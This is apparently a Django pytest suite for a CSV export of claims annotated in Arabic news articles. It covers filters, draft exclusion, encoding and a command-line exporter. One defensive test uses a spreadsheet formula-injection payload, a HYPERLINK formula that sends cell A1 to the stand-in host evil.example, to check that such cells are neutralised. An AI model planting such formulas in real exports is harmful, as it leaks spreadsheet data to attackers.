"""A researcher downloads the claims as CSV for a spreadsheet, from /claims/ or the command line."""

import csv
import io
import re
from html import unescape
from urllib.parse import unquote

import pytest
from django.core.management import CommandError, call_command
from django.http import StreamingHttpResponse
from django.utils import timezone

from annotations.opendata import csv_export
from annotations.opendata.csv_export import COLUMNS, neutralise
from tests.annotations.claims_corpus import (
    EDITOR_EMAIL,
    FILTER_CASES,
    PUBLISHED,
    case_id,
    make_claims_corpus,
    pks,
    resolve,
)
from tests.factories import CLAIM_QUOTE, make_actor, make_annotation, make_article, make_claim

pytestmark = pytest.mark.django_db

URL = "/claims.csv"


@pytest.fixture
def corpus(django_user_model):
    return make_claims_corpus(django_user_model)


def download(client, **params) -> bytes:
    response = client.get(URL, params)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def read(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def claim_ids(rows) -> set[int]:
    return {int(row["permalink"].rsplit("#a-", 1)[1]) for row in rows}


def test_the_file_is_utf8_with_a_bom_and_english_column_keys(client, corpus):
    body = download(client)

    assert body.startswith(b"\xef\xbb\xbf")
    header = body.decode("utf-8-sig").split("\r\n", 1)[0]
    assert header == ",".join(COLUMNS)
    assert COLUMNS == (
        "article",
        "outlet",
        "date",
        "speaker",
        "actor_kind",
        "cue",
        "stance",
        "quote_type",
        "source",
        "source_specificity",
        "quote",
        "tags",
        "permalink",
    )


def test_each_published_claim_is_one_row_with_every_column(client, corpus):
    claim = corpus["putin_distancing"]
    article = claim.paragraph.article

    rows = read(download(client))

    assert len(rows) == len(PUBLISHED)
    assert claim_ids(rows) == pks(corpus, PUBLISHED)
    row = next(r for r in rows if r["permalink"].endswith(f"#a-{claim.pk}"))
    assert row == {
        "article": article.title,
        "outlet": "SY24",
        "date": "2021-07-20",
        "speaker": "فلاديمير بوتين",
        "actor_kind": "person",
        "cue": "وزعم",
        "stance": "distancing",
        "quote_type": "",
        "source": "حسب منصة SY24",
        "source_specificity": "anonymous",
        "quote": CLAIM_QUOTE,
        "tags": "عودة اللاجئين",
        "permalink": f"http://testserver{article.get_absolute_url()}#a-{claim.pk}",
    }
    assert unquote(row["permalink"]) == f"http://testserver/articles/{article.slug}/#a-{claim.pk}"


def test_several_tags_share_one_cell_and_a_claim_without_source_leaves_it_empty(client, corpus):
    rows = read(download(client))

    row = next(r for r in rows if r["permalink"].endswith(f"#a-{corpus['putin_neutral'].pk}"))
    assert row["tags"] == "العقوبات; عودة اللاجئين"
    assert row["source"] == "" and row["source_specificity"] == ""


def test_arabic_with_harakat_tatweel_and_an_emoji_survives_intact(client, corpus):
    text = "وزعـــم المسؤول أن «انعقاد المُؤتَمَر هو العنصر الأول» 😀 حسب SY24."
    paragraph = make_article(paragraphs=[text], title="مُؤتَمَر اللاجئين ٢٠٢٤").paragraphs.get()
    make_annotation(paragraph, "«انعقاد المُؤتَمَر هو العنصر الأول» 😀", cue="وزعـــم")

    rows = read(download(client))

    row = next(r for r in rows if r["article"] == "مُؤتَمَر اللاجئين ٢٠٢٤")
    assert row["quote"] == "«انعقاد المُؤتَمَر هو العنصر الأول» 😀"
    assert row["cue"] == "وزعـــم"


@pytest.mark.parametrize(("params", "expected"), FILTER_CASES, ids=case_id)
def test_the_filters_are_those_of_the_claims_page(client, corpus, params, expected):
    params = resolve(corpus, params)
    page = client.get("/claims/", params).content.decode()
    on_page = {int(pk) for pk in re.findall(r'<li class="claim-row" id="claim-(\d+)">', page)}

    rows = read(download(client, **params))

    assert claim_ids(rows) == on_page == pks(corpus, expected)


def test_the_claims_page_links_to_the_csv_with_its_filters(client, corpus):
    putin = corpus["putin"]

    html = client.get("/claims/", {"speaker": putin.slug, "stance": "distancing"}).content.decode()

    href = unescape(
        # The Latin format names are isolated: "CSV · JSON" would otherwise run together
        # left to right, and read right to left as «تنزيل JSON · CSV».
        re.search(r'<a class="csv-link" href="([^"]+)" download>تنزيل <bdi>CSV</bdi></a>', html)[1]
    )
    assert re.search(
        r'<a class="json-link" href="[^"]+" type="application/json"><bdi>JSON</bdi></a>', html
    )
    path, query = href.split("?")
    assert path == URL
    assert dict(p.split("=") for p in unquote(query).split("&")) == {
        "speaker": putin.slug,
        "stance": "distancing",
    }
    assert claim_ids(read(download(client, speaker=putin.slug, stance="distancing"))) == pks(
        corpus, ["putin_distancing"]
    )


def test_the_link_leaves_out_a_filter_the_page_refused(client, corpus):
    html = client.get(
        "/claims/", {"stance": "غاضب", "outlet": corpus["enab"].slug}
    ).content.decode()

    href = unescape(re.search(r'<a class="csv-link" href="([^"]+)"', html)[1])
    assert "stance" not in href and "outlet=" in href


@pytest.mark.parametrize(
    "params",
    [
        {"stance": "غاضب"},
        {"from": "2021-13-01"},
        {"speaker": "لا-أحد"},
        {"from": "2022-01-01", "to": "2021-01-01"},
    ],
    ids=["unknown-stance", "bad-date", "unknown-speaker", "reversed-dates"],
)
def test_a_bad_filter_is_refused_rather_than_exporting_more_than_asked(client, corpus, params):
    response = client.get(URL, params)

    assert response.status_code == 400
    assert response.content.decode().startswith("لم يُصدَّر الملف")


def test_drafts_never_go_into_the_file_for_readers(client, reader, corpus):
    client.force_login(reader)

    body = download(client).decode("utf-8-sig")

    assert claim_ids(read(body.encode())) == pks(corpus, PUBLISHED)
    assert "مسودة" not in body and "مصدر سري" not in body and "انسحاب" not in body


def test_drafts_stay_out_for_editors_too_and_the_page_says_so(client, editor, corpus):
    """A file leaves the site without the «مسودة» badge, so it holds published claims only."""
    client.force_login(editor)

    assert "مصدر سري" in client.get("/claims/").content.decode()
    rows = read(download(client))

    assert claim_ids(rows) == pks(corpus, PUBLISHED)
    assert "(المقالات المنشورة فقط)" in client.get("/claims/").content.decode()


def test_no_user_name_or_email_address_is_in_the_file(client, corpus):
    body = download(client).decode("utf-8-sig")

    assert EDITOR_EMAIL not in body and "@" not in body
    assert corpus["author"].username not in body


def test_the_file_streams_with_a_dated_name(client, corpus):
    response = client.get(URL)

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="qiraa-claims-{today}.csv"'


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(client, trigger):
    """OWASP's list: a leading apostrophe makes the cell text."""
    hostile = f'{trigger}HYPERLINK("http://evil.example/?"&A1;"اضغط هنا")'
    paragraph = make_article(
        paragraphs=[f"قال {hostile} المتحدث اليوم."], title=f"{trigger}SUM(1+1) عنوان"
    ).paragraphs.get()
    make_annotation(paragraph, hostile.strip(), cue=f"{trigger}قال")

    (row,) = read(download(client))

    assert row["article"] == f"'{trigger}SUM(1+1) عنوان"
    assert row["cue"] == f"'{trigger}قال"
    if trigger.strip():
        assert row["quote"] == f"'{hostile}"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+9631234", "'+9631234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("قال =1+1", "قال =1+1"),
        ("«=1»", "«=1»"),
        ("", ""),
    ],
    ids=repr,
)
def test_neutralise(cell, written):
    assert neutralise(cell) == written


@pytest.mark.parametrize("size", [3, 30])
def test_the_number_of_queries_does_not_grow_with_the_claims(
    client, django_assert_max_num_queries, size
):
    speakers = [make_actor(f"متحدث رقم {n}", kind="person") for n in range(3)]
    for n in range(size):
        make_claim(actor=speakers[n % 3], tags=[f"وسم {n % 4}", "اللاجئون"])

    with django_assert_max_num_queries(3):
        rows = read(download(client))

    assert len(rows) == size and all(row["tags"] for row in rows)


def test_claims_are_read_in_chunks_each_with_its_own_tags(
    client, monkeypatch, django_assert_max_num_queries
):
    monkeypatch.setattr(csv_export, "CHUNK_SIZE", 2)
    monkeypatch.setattr(csv_export, "ROWS_PER_WRITE", 3)
    claims = [make_claim(tags=[f"وسم {n}", "اللاجئون"]) for n in range(7)]

    # The claims in one query read chunk by chunk, then the tags of each of the 4 chunks.
    with django_assert_max_num_queries(1 + 4 + 1):
        rows = read(download(client))

    assert {row["permalink"].rsplit("#a-", 1)[1]: row["tags"] for row in rows} == {
        str(claim.pk): f"اللاجئون; وسم {n}" for n, claim in enumerate(claims)
    }


# The command line


def export(*args) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("export_claims_csv", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_the_command_writes_published_claims_to_a_file(corpus, tmp_path):
    target = tmp_path / "claims.csv"

    out, _ = export("--output", str(target), "--base-url", "https://qiraa.example/")

    assert out.strip() == f"{len(PUBLISHED)} claims written to {target}"
    body = target.read_bytes()
    assert body.startswith(b"\xef\xbb\xbf")
    rows = read(body)
    assert claim_ids(rows) == pks(corpus, PUBLISHED)
    assert all(r["permalink"].startswith("https://qiraa.example/articles/") for r in rows)


def test_the_command_takes_the_filters_of_the_page(corpus, tmp_path):
    target = tmp_path / "claims.csv"

    export(
        "-o", str(target), "--stance", "distancing", "--speaker", corpus["putin"].slug,
        "--outlet", corpus["sy24"].slug, "--tag", "عودة-اللاجئين", "--from", "2021-01-01", "--to", "2021-12-31",
    )  # fmt: skip

    assert claim_ids(read(target.read_bytes())) == pks(corpus, ["putin_distancing"])


def test_the_command_writes_to_standard_output_with_the_count_on_stderr(corpus):
    out, err = export("--actor-kind", "government_body", "--specificity", "document")

    assert out.startswith("\ufeffarticle,outlet,")
    assert claim_ids(read(out.encode())) == pks(
        corpus, ["ministry_distancing", "ministry_endorsing"]
    )
    assert err.strip() == "2 claims written"


def test_the_command_refuses_a_bad_filter_and_writes_nothing(corpus, tmp_path):
    target = tmp_path / "claims.csv"

    with pytest.raises(CommandError, match="«الموقف»: قيمة غير معروفة"):
        export("-o", str(target), "--stance", "غاضب")
    assert not target.exists()


def test_the_command_knows_drafts_only_speakers_as_unknown(corpus):
    """It exports as a reader sees the archive: a speaker known only from a draft is not named."""
    with pytest.raises(CommandError, match="«القائل»"):
        export("--speaker", corpus["secret"].slug)
